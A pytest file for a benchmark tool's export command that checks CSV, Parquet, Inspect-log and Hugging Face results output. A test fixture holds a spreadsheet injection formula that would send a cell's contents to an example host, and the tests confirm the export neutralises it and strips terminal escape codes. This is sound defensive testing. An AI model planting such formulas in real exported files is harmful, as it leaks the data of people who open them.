"""`loupe export --to csv|parquet|hf-eval-results|inspect`: tables, logs and results that other programs read."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from loupe.results.tables.spreadsheet_cells import csv_lines, tab_separated_line
from loupe.runs.folder import RunFolder
from tests.support.command_line import complaint, loupe, make_folder

READER = """
from loupe.errors import EngineError

def formula(request):
    if request.id == "p3":
        raise EngineError("no \\x1b[31mink")
    return '=HYPERLINK("http://example.org/?"&A1,"click")' if request.id == "p1" else request.text

def right(request):
    return request.text
"""
FIRST = ["run", "engine", "benchmark", "version", "sample", "group", "class", "error", "text", "reference"]
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("exports")
    make_folder(root)
    (root / "texts.py").write_text(READER)
    for name in ("formula", "right"):
        assert loupe("run", "mydocs", "-e", f"python:texts.py:{name}", "--name", name, cwd=root).returncode == 0
    return root


def test_csv_has_a_row_for_each_sample_of_all_runs_under_stable_columns(finished: Path) -> None:
    done = loupe("export", "runs", "--to", "csv", cwd=finished)
    assert (done.returncode, done.stdout) == (0, "samples.csv\n")
    with (finished / "samples.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0])[:13] == [*FIRST, "seconds", "input_tokens", "output_tokens"]
    assert list(rows[0])[13:17] == ["measure.text_similarity", "measure.cer", "measure.wer", "tag.half"]
    assert [(row["engine"], row["sample"]) for row in rows[:2]] == [("formula", "p0"), ("formula", "p1")]
    assert len(rows) == 12 and rows[0]["reference"] == "alpha" and rows[0]["measure.cer"] == "0.0"
    assert (rows[3]["class"], rows[3]["text"]) == ("error", "")


def test_a_text_that_a_spreadsheet_would_run_is_marked_as_text(finished: Path) -> None:
    loupe("export", "runs/formula/mydocs", "--to", "csv", "-o", "one.csv", cwd=finished)
    with (finished / "one.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert rows[1]["text"] == f"'{FORMULA}" and rows[0]["text"] == "alpha"
    assert ',"alpha",' in (finished / "one.csv").read_text()


@given(st.lists(st.text(st.sampled_from([*"=+-@＝＠;,\t\r\n\" '\u2028\ufeffa1"])), min_size=1), st.sampled_from(";\t,"))
def test_no_cell_begins_a_formula_wherever_a_spreadsheet_splits(texts: list[str], separator: str) -> None:
    written = csv_lines([texts]).decode().removesuffix("\r\n")
    cells = [cell for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator) for cell in row]
    assert [text.replace("'", "") for text in texts] == [
        cell.replace("'", "") for cell in next(csv.reader(io.StringIO(written, newline="")))
    ]
    for cell in (*cells, *re.split("[;,\t\r\n\u2028]", written)):
        assert not cell.strip(' "\n\u2028\ufeff').startswith(tuple("=+-@＝＠")), (written, cell)
        assert not cell.startswith(("\t", "\r")), (written, cell)
    [line] = tab_separated_line([text for text in texts if not re.search(r"\s", text)]).splitlines() or [""]
    assert not any(cell.startswith(("=", "@", "-@", "+a")) for cell in line.split("\t"))
    assert tab_separated_line(["-1.2 %", "+0.3 … +0.5 points"]) == "-1.2 %\t+0.3 … +0.5 points"


def test_parquet_keeps_texts_as_they_are_and_numbers_as_numbers(finished: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    assert loupe("export", "runs", "--to", "parquet", cwd=finished).returncode == 0
    table = parquet.read_table(finished / "samples.parquet")
    rows = table.to_pylist()
    assert rows[1]["text"] == FORMULA and rows[3]["text"] is None and rows[0]["measure.cer"] == 0.0
    kinds = {field.name: str(field.type) for field in table.schema}
    assert (kinds["text"], kinds["input_tokens"], kinds["measure.cer"]) == ("string", "int64", "double")


def test_counts_of_a_stranger_that_no_column_holds_are_left_out_of_parquet(finished: Path, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    shutil.copytree(finished / "runs", tmp_path / "runs")
    for file in (tmp_path / "runs").rglob("predictions.jsonl"):
        rows = [json.loads(line) | {"input_tokens": 2**70} for line in file.read_text().splitlines()]
        file.write_text("".join(f"{json.dumps(row)}\n" for row in rows))
    assert loupe("export", "runs", "--to", "parquet", cwd=tmp_path).returncode == 0
    table = parquet.read_table(tmp_path / "samples.parquet")
    assert set(table.column("input_tokens").to_pylist()) == {None}


def test_a_log_of_inspect_is_a_zip_of_header_samples_and_summaries(finished: Path) -> None:
    done = loupe("export", "runs/formula/mydocs", "--to", "inspect", cwd=finished)
    log = finished / done.stdout.strip()
    with zipfile.ZipFile(log) as opened:
        header = json.loads(opened.read("header.json"))
        sample = json.loads(opened.read("samples/p3_epoch_1.json"))
        summaries = json.loads(opened.read("summaries.json"))
    assert header["results"]["total_samples"] == 6 and header["eval"]["model"] == "formula"
    assert header["eval"]["metadata"]["signature"].startswith("mydocs:1|n:6|")
    assert sample["error"]["traceback_ansi"] == "no \N{REPLACEMENT CHARACTER}[31mink"
    assert [each["id"] for each in summaries] == [f"p{n}" for n in range(6)]
    before = log.read_bytes()
    loupe("export", "runs/formula/mydocs", "--to", "inspect", cwd=finished)
    assert log.read_bytes() == before


def test_two_runs_that_would_be_one_log_are_refused_and_none_is_written(finished: Path, tmp_path: Path) -> None:
    for name in ("a", "b"):
        shutil.copytree(finished / "runs/right/mydocs", tmp_path / f"runs/{name}/mydocs")
    done = loupe("export", "runs", "--to", "inspect", cwd=tmp_path)
    error, hint = complaint(done)
    assert done.returncode == 2 and error.startswith("runs/a/mydocs and runs/b/mydocs would be the same file, ")
    assert "--output" in hint and not (tmp_path / "logs").exists()
    assert loupe("export", "runs/b/mydocs", "--to", "inspect", cwd=tmp_path).returncode == 0


def test_inspect_reads_the_log(finished: Path) -> None:
    inspect = pytest.importorskip("inspect_ai.log", reason="SKIPPED: inspect_ai is not installed")
    done = loupe("export", "runs/formula/mydocs", "--to", "inspect", cwd=finished)
    log = inspect.read_eval_log(str(finished / done.stdout.strip()))
    assert (log.status, len(log.samples)) == ("success", 6)
    assert [score.name for score in log.results.scores] == ["text_similarity", "cer", "wer"]


@pytest.fixture
def on_the_hub(finished: Path, tmp_path: Path) -> Path:
    """A run that says it was made on a data set of the hub."""
    run = tmp_path / "runs/right/olmocr_bench"
    shutil.copytree(finished / "runs/right/mydocs", run)
    info = json.loads((run / "run.json").read_text())
    names = {"benchmark": "olmocr_bench", "benchmark_id": "olmocr_bench", "version": "1.0"}
    (run / "run.json").write_text(json.dumps(info | names))
    result = json.loads((run / "result.json").read_text())
    result |= {"headline": "overall", "measures": {"overall": {"value": 0.825}, "arxiv_math": {"value": 0.8}}}
    (run / "result.json").write_text(json.dumps(result))
    make_ours(run)
    return run


def make_ours(run: Path) -> None:
    """Seal what a test has written by hand, as if Loupe had."""
    folder = RunFolder.open(run)
    result = folder.stored_result()
    assert result is not None
    info = folder.info
    folder.write_result(msgspec.structs.replace(result, benchmark=info.benchmark_id, version=info.version))


def test_results_for_the_hub_are_what_its_own_parser_reads(on_the_hub: Path, tmp_path: Path) -> None:
    hub, yaml = pytest.importorskip("huggingface_hub"), pytest.importorskip("yaml")
    if not hasattr(hub, "parse_eval_result_entries"):
        pytest.skip("SKIPPED: this huggingface_hub has no parser of evaluation results")
    done = loupe("export", on_the_hub, "--to", "hf-eval-results", "-o", "model", cwd=tmp_path)
    assert done.stdout == "model/.eval_results/olmocr_bench.yaml\n", done.stderr
    written = yaml.safe_load((tmp_path / done.stdout.strip()).read_text())
    entries = hub.parse_eval_result_entries(written)
    found = [(each.dataset_id, each.task_id, each.value) for each in entries]
    assert found == [("allenai/olmOCR-bench", "overall", 82.5), ("allenai/olmOCR-bench", "arxiv_math", 80.0)]
    signature = json.loads((on_the_hub / "result.json").read_text())["signature"]
    assert entries[0].notes == f"loupe: {signature}"
    assert hub.eval_result_entries_to_yaml(entries) == written


def test_what_is_not_on_the_hub_or_only_a_part_of_it_is_refused(
    finished: Path, on_the_hub: Path, tmp_path: Path
) -> None:
    done = loupe("export", "runs/right/mydocs", "--to", "hf-eval-results", cwd=finished)
    assert complaint(done)[0] == "runs/right/mydocs: mydocs is no data set of the hub"
    info = json.loads((on_the_hub / "run.json").read_text())
    (on_the_hub / "run.json").write_text(json.dumps(info | {"limit": 3}))
    done = loupe("export", on_the_hub, "--to", "hf-eval-results", cwd=tmp_path)
    assert "has read a part of olmocr_bench" in complaint(done)[0]


@pytest.mark.parametrize(
    ("file", "change"),
    [
        ("run.json", {"stopped": "the budget is spent"}),
        ("result.json", {"outcomes": {"ok": 5, "missing": 1}, "failures": []}),
        ("result.json", {"published_total": 7}),
    ],
)
def test_a_run_that_ended_early_or_on_fewer_samples_is_no_result_for_the_hub(
    on_the_hub: Path, tmp_path: Path, file: str, change: dict[str, object]
) -> None:
    known = json.loads((on_the_hub / file).read_text())
    (on_the_hub / file).write_text(json.dumps(known | change))
    make_ours(on_the_hub)
    done = loupe("export", on_the_hub, "--to", "hf-eval-results", "-o", "model", cwd=tmp_path)
    assert done.returncode == 2 and "has read a part of olmocr_bench" in complaint(done)[0]
    assert not (tmp_path / "model").exists()


@pytest.mark.parametrize("layout", ["csv", "inspect"])
def test_a_run_without_scores_is_refused_with_the_command_that_scores_it(
    finished: Path, tmp_path: Path, layout: str
) -> None:
    shutil.copytree(finished, tmp_path, dirs_exist_ok=True)
    (tmp_path / "runs/right/mydocs/result.json").unlink()
    done = loupe("export", "runs/right/mydocs", "--to", layout, cwd=tmp_path)
    assert complaint(done) == ("runs/right/mydocs has no scores yet", "score it: loupe score runs/right/mydocs")
